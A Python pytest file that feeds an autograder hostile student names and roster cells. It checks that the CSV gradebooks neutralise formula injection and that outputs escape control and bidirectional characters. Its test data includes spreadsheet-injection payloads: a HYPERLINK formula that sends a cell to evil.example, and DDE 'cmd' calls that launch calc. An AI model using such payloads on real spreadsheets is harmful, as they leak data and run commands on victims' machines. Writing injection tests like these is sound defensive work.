"""Every file a batch writes takes any text a student (or a roster, or a platform) gives: no CSV cell starts a
formula, whichever gradebook it is in; no output, CSV, JUnit or the TA's terminal, carries a control or
bidirectional character raw; two students whose names meet once made file-safe get pages of their own."""

from __future__ import annotations

import csv
import hashlib
import json
from pathlib import Path

import pytest

from tests.batch.classroom import write_course
from tests.conftest import Completed, run_cli

ADD = "def add(a, b):\n    return a + b\n"
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3", "\t=1+1", "\r=1+1")
ROSTER = [["folder", "name", "id", "sis_id", "login", "email", "section"],
          ["ada", FORMULAS[0], FORMULAS[1], FORMULAS[2], FORMULAS[3], "=ada@example.edu", FORMULAS[4]],
          ["bob", "Bob;=1+1", "340935", "S002", "bob", "bob@example.edu", FORMULAS[5]]]
RAW = ("\u202e", "\x1b", "\u2066", "\x07")
FILE_SAFE_TWIN = "Jos\u00fb"  # made file-safe: Jos_-<digest>, which is another student's name here
CSV_FILES = ("gradebook.csv", "gradebook-canvas.csv", "gradebook-moodle.csv", "gradebook-plain.csv")


@pytest.fixture(scope="module")
def hostile_batch(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Completed]:
    root = tmp_path_factory.mktemp("cells")
    twin = "Jos_-" + hashlib.sha256(FILE_SAFE_TWIN.encode()).hexdigest()[:8]
    for student in ("ada", "bob", "=HYPERLINK(1)", "\u202eevil.py", "\x1b[31mred\x07", FILE_SAFE_TWIN, twin):
        (root / "class" / student).mkdir(parents=True)
        (root / "class" / student / "add.py").write_text(ADD if student != twin else "def add(a, b):\n    return 0\n")
    with (root / "roster.csv").open("w", newline="", encoding="utf-8") as stream:
        csv.writer(stream).writerows(ROSTER)
    out = root / "out"
    result = run_cli("batch", root / "class", "--exercises", write_course(root), "--out", out, "--workers", 2,
                     "--only", "add", "--roster", root / "roster.csv", "--outputs", "csv,json,junit,html",
                     "--gradebook", "canvas", "--gradebook", "moodle", "--gradebook", "plain", timeout=300)
    assert result.returncode == 0, result.stdout + result.stderr
    return out, result


def cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as stream:
        return [value for row in csv.reader(stream) for value in row]


@pytest.mark.parametrize("name", CSV_FILES)
def test_no_cell_of_any_gradebook_starts_a_formula(hostile_batch: tuple[Path, Completed], name: str) -> None:
    values = cells(hostile_batch[0] / name)
    for value in values:
        for part in [value, *value.split(";"), *value.split("|"), *value.split("\t")]:
            assert not part.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
    assert any(value.startswith("'") for value in values), values  # the hostile cells are there, made inert


@pytest.mark.parametrize("name", CSV_FILES)
def test_the_roster_cells_keep_their_text_behind_the_quote(hostile_batch: tuple[Path, Completed], name: str) -> None:
    values = cells(hostile_batch[0] / name)
    if name != "gradebook.csv":  # the roster's names and ids are in the LMS gradebooks
        assert f"'{FORMULAS[0]}" in values and "Bob;'=1+1" in values
    assert "'=HYPERLINK(1)" in values or name in ("gradebook-canvas.csv", "gradebook-moodle.csv")


@pytest.mark.parametrize("name", [*CSV_FILES, "junit.xml", "grades.json"])
def test_no_output_carries_a_control_or_bidirectional_character(hostile_batch: tuple[Path, Completed], name: str) -> None:
    text = (hostile_batch[0] / name).read_text(encoding="utf-8")
    assert not any(char in text for char in RAW), name
    if name in ("gradebook.csv", "gradebook-plain.csv", "junit.xml"):
        assert "\\u202eevil.py" in text and "\\x1b[31mred\\x07" in text


def test_two_students_whose_file_names_would_meet_get_pages_of_their_own(hostile_batch: tuple[Path, Completed]) -> None:
    pages = sorted((hostile_batch[0] / "html" / "students").iterdir())
    assert len(pages) == 7
    twins = [page.read_text(encoding="utf-8") for page in pages if page.name.startswith("Jos_-")]
    assert len(twins) == 2 and sum("return 0" in page for page in twins) == 1


def test_batch_show_and_its_did_you_mean_escape_a_students_name(hostile_batch: tuple[Path, Completed]) -> None:
    shown = run_cli("batch", "show", "\\x1b[31mred\\x07", "--out", hostile_batch[0])
    assert shown.returncode == 0, shown.stderr
    assert "\\x1b[31mred\\x07" in shown.stdout and not any(char in shown.stdout for char in RAW)
    missed = run_cli("batch", "show", "\x1b[31mred\x07x", "--out", hostile_batch[0])
    assert missed.returncode == 2
    assert "did you mean" in missed.stderr and not any(char in missed.stderr for char in RAW), missed.stderr
    assert not any(char in hostile_batch[1].stdout + hostile_batch[1].stderr for char in RAW)
